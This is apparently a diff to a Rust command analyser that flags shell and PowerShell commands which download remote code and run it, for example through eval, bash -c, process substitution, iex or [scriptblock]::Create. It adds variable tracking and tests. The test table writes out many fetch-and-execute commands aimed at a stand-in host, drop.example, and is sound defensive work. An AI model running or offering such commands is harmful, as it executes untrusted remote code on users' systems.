@@ -28,6 +28,8 @@ pub(super) struct Facts {
     pub printed: Option<String>,
     /// Python that it hands to an interpreter.
     pub python: Vec<String>,
+    /// Variables that hold text that was fetched, in small letters.
+    variables: Vec<String>,
 }
 
 /// One program with its words, and what stands after it.
@@ -59,6 +61,10 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
     let mut others = 0_usize;
     let mut printed = None;
     for step in steps(command) {
+        if let Some(name) = variable_of_fetched(&step.words) {
+            facts.sends = true;
+            facts.variables.push(name);
+        }
         let words = without_prefix(&step.words);
         let Some((program, rest)) = words.split_first() else {
             fetches &= step.piped;
@@ -70,7 +76,14 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
         others = others.saturating_add(usize::from(!handles_files(&name)));
         facts.runs_fetched |= fetches && is_interpreter;
         facts.runs_decoded |= decodes && is_interpreter;
-        let evaluates = evaluates_fetched(&name, rest) || substitutes_fetched(&name, rest);
+        let runs_variable = (interprets(&name) || matches!(name.as_str(), "eval" | "source" | "."))
+            && rest
+                .get(code_of(rest))
+                .is_some_and(|code| begins_with_one(code, &facts.variables));
+        let evaluates = evaluates_fetched(words, &facts.variables)
+            || substitutes_fetched(&name, rest)
+            || begins_with_fetch(words)
+            || runs_variable;
         facts.sends |= evaluates;
         if evaluates || runs_file(&name, program, rest, &facts.fetched) {
             facts.runs_fetched = true;
@@ -102,7 +115,9 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
         if decoder(&name, rest) && name == "base64" {
             facts.printed = facts.printed.take().or(printed.take());
         }
-        fetches = step.piped && (fetched || fetches && passes_on(&name));
+        let prints_variable = matches!(name.as_str(), "echo" | "printf")
+            && rest.iter().any(|word| names_one(word, &facts.variables));
+        fetches = step.piped && (fetched || prints_variable || fetches && passes_on(&name));
         decodes = step.piped && (decoder(&name, rest) || decodes && passes_on(&name));
     }
     facts.handles_files = others == 0;
@@ -162,40 +177,114 @@ fn inner_command(name: &str, words: &[String]) -> Option<usize> {
     (at < words.len()).then_some(at)
 }
 
-/// Whether a shell or an interpreter is given what a command fetches in its place: `eval "$(curl https://…)"`.
+/// Whether a shell or an interpreter is given what a command fetches in its place, as its code and not as a part of it:
+/// `eval "$(curl https://…)"`, `bash <(curl https://…)`.
 fn substitutes_fetched(name: &str, words: &[String]) -> bool {
-    const OPENS: [&str; 3] = ["$(", "<(", "`"];
-    let fetches = |word: &str| {
-        OPENS.iter().any(|opens| {
-            word.split(opens).skip(1).any(|inner| {
-                let first = inner.trim_start().split([' ', '\t']).next().unwrap_or_default();
-                matches!(base_name(first).as_str(), "curl" | "wget" | "fetch" | "aria2c")
-            })
-        })
+    let code = if matches!(name, "eval" | "source" | ".") {
+        0
+    } else if interprets(name) {
+        code_of(words)
+    } else {
+        return false;
     };
-    // Blanks part what is put in from the word that it is put into.
-    (interprets(name) || matches!(name, "eval" | "source" | ".")) && fetches(&words.join(" "))
+    begins_with_fetch(words.get(code..).unwrap_or_default())
 }
 
-/// Whether a command of PowerShell evaluates what it fetches: `iex (iwr https://…)`.
-fn evaluates_fetched(name: &str, words: &[String]) -> bool {
-    let evaluates = |word: &str| matches!(word, "iex" | "invoke-expression");
-    let lower = |word: &String| word.to_ascii_lowercase();
-    let plain = |word: &String| lower(word).trim_matches(['(', ')', '&']).to_owned();
-    let at = if evaluates(name.split('(').next().unwrap_or(name)) {
-        Some(0)
-    } else {
-        words.iter().position(|w| evaluates(&plain(w)))
+/// Where the code of an interpreter begins in its words: behind the option for it, else with the first that is no option.
+fn code_of(words: &[String]) -> usize {
+    let takes_code = |w: &String| {
+        w.starts_with('-') && !w.starts_with("--") && w.len() < 6 && w.ends_with(['c', 'e', 'r'])
     };
-    at.is_some_and(|_| {
-        words.iter().any(|w| {
-            matches!(
-                plain(w).as_str(),
-                "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
-            ) || lower(w).contains("downloadstring(")
-                || lower(w).contains("downloaddata(")
-        })
+    if let Some(at) = words.iter().position(takes_code) {
+        return at.saturating_add(1);
+    }
+    let skipped = |w: &&String| w.starts_with('-') || matches!(w.as_str(), "<" | "<<<");
+    words.iter().take_while(skipped).count()
+}
+
+/// Whether words begin with what a command in their place fetches.
+fn begins_with_fetch(words: &[String]) -> bool {
+    const OPENS: [&str; 3] = ["$(", "<(", "`"];
+    // Blanks part what is put in from the word that it is put into.
+    let text = words
+        .iter()
+        .take(8)
+        .map(String::as_str)
+        .collect::<Vec<_>>()
+        .join(" ");
+    let inner = OPENS.iter().find_map(|opens| text.strip_prefix(opens));
+    let inner: Vec<String> = inner
+        .unwrap_or_default()
+        .split_whitespace()
+        .take(8)
+        .map(str::to_owned)
+        .collect();
+    let program = without_prefix(&inner).first();
+    program.is_some_and(|p| is_fetcher(&base_name(p)))
+}
+
+fn is_fetcher(name: &str) -> bool {
+    matches!(name, "curl" | "wget" | "wget2" | "fetch" | "aria2c")
+}
+
+/// The variable that a command gives what it fetches: `X=$(curl https://…)`, `$x = irm https://…`.
+fn variable_of_fetched(words: &[String]) -> Option<String> {
+    let (first, rest) = words.split_first()?;
+    if let Some(name) = first.strip_prefix('$') {
+        let (name, joined) = name.split_once('=').unwrap_or((name, ""));
+        let assigns = first.contains('=') || rest.first().is_some_and(|w| w.starts_with('='));
+        let given = std::iter::once(joined).chain(rest.iter().map(String::as_str));
+        return (assigns && given.flat_map(parts).any(|part| is_fetch_of_powershell(&part)))
+            .then(|| name.to_ascii_lowercase());
+    }
+    let (first, rest) = match first.as_str() {
+        "export" | "local" | "declare" | "readonly" => rest.split_first()?,
+        _ => (first, rest),
+    };
+    let (name, value) = first.split_once('=')?;
+    let value: Vec<String> = std::iter::once(value.to_owned())
+        .chain(rest.iter().cloned())
+        .collect();
+    (!name.is_empty() && begins_with_fetch(&value)).then(|| name.to_ascii_lowercase())
+}
+
+/// Whether a word is one of some variables, or what it holds: `$X`, `${X}`, `$x.Content`.
+fn names_one(word: &str, variables: &[String]) -> bool {
+    word.split('$').skip(1).any(|rest| {
+        let rest = rest.trim_start_matches('{').to_ascii_lowercase();
+        let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_');
+        let name = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
+        variables.iter().any(|v| v == name)
     })
+}
+
+/// Whether a word is nothing but one of some variables as far as its first blank.
+fn begins_with_one(word: &str, variables: &[String]) -> bool {
+    word.starts_with('$') && names_one(word.split_whitespace().next().unwrap_or_default(), variables)
+}
+
+/// Whether a command of PowerShell evaluates what it fetches, or what a variable holds that another one fetched:
+/// `iex (iwr https://…)`, `&([scriptblock]::Create((irm https://…)))`.
+fn evaluates_fetched(words: &[String], variables: &[String]) -> bool {
+    let evaluates = |part: &str| matches!(part, "iex" | "invoke-expression" | "[scriptblock]::create");
+    words.iter().flat_map(|w| parts(w)).any(|part| evaluates(&part))
+        && words
+            .iter()
+            .any(|word| names_one(word, variables) || parts(word).any(|part| is_fetch_of_powershell(&part)))
+}
+
+/// The parts of a word of PowerShell between its brackets, in small letters.
+fn parts(word: &str) -> impl Iterator<Item = String> {
+    let parts = word.split(|c: char| matches!(c, '(' | ')' | '{' | '}' | '&' | '=') || c.is_whitespace());
+    parts.map(str::to_ascii_lowercase)
+}
+
+fn is_fetch_of_powershell(part: &str) -> bool {
+    matches!(
+        part,
+        "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
+    ) || part.ends_with("downloadstring")
+        || part.ends_with("downloaddata")
 }
 
 /// A file that a method of .NET fetches: `(New-Object Net.WebClient).DownloadFile('https://…', 'x.exe')`.
@@ -629,6 +718,59 @@ mod tests {
             (
                 "python3 -c \"$(curl -s https://drop.example/p)\"",
                 "sends runs python",
+            ),
+            ("bash < <(curl -s https://drop.example/p)", "sends runs"),
+            (
+                "bash -o pipefail -c \"$(curl -s https://drop.example/p)\"",
+                "sends runs",
+            ),
+            (
+                "sh -c \"set -e; $(curl -s https://drop.example/p)\"",
+                "sends runs",
+            ),
+            ("X=$(curl -s https://drop.example/p); eval \"$X\"", "sends runs"),
+            (
+                "X=$(curl -s https://drop.example/p); bash -c \"${X}\"",
+                "sends runs",
+            ),
+            ("X=`curl -s https://drop.example/p`; echo $X | sh", "sends runs"),
+            (
+                "bash -c \"V=$(curl -s https://api.example/version); echo $V\"",
+                "sends",
+            ),
+            ("bash -c \"echo $(curl -s https://api.example/address)\"", ""),
+            (
+                "bash build.sh --version $(curl -s https://api.example/version)",
+                "",
+            ),
+            ("bash check.sh <(curl -s https://data.example/list)", ""),
+            (
+                "V=$(curl -s https://api.example/version); bash build.sh $V",
+                "sends",
+            ),
+            (
+                "powershell $s = (New-Object Net.WebClient).DownloadString('https://drop.example/p'); iex $s",
+                "sends runs",
+            ),
+            (
+                "powershell -c \"$r=irm https://drop.example/p;IEX $r\"",
+                "sends runs",
+            ),
+            (
+                "powershell -c \"&([scriptblock]::Create((irm https://drop.example/p)))\"",
+                "sends runs",
+            ),
+            (
+                "powershell -c \"Invoke-Command -ScriptBlock ([scriptblock]::create((iwr https://drop.example/p)))\"",
+                "sends runs",
+            ),
+            (
+                "powershell -c \"iex(iwr('https://drop.example/p'))\"",
+                "sends runs",
+            ),
+            (
+                "powershell -c \"$v = irm https://api.example/version; echo $v\"",
+                "sends",
             ),
             ("powershell iex (iwr https://drop.example/p)", "sends runs"),
             (
